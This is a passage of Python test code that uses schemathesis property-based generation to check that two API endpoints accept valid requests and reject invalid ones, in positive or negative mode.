    schema = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", app)
    generation = GenerationMode.POSITIVE if mode == "positive" else GenerationMode.NEGATIVE
    check = positive_data_acceptance if mode == "positive" else negative_data_rejection
    def run(operation) -> None:
        framework = operation.path.startswith("/api/v1/frameworks/")

        @bounded(25)
        @given(case=operation.as_strategy(generation_mode=generation))
        def call(case):
            if framework:
                case.path_parameters = {"code": "ENS", "version": "2026.1"}
            case.call_and_validate(checks=[check])

        call()

    for result in schema.get_all_operations():
        operation = result.ok()
        if operation.path in ("/api/v1/apps", "/api/v1/frameworks/{code}/{version}"):
            run(operation)
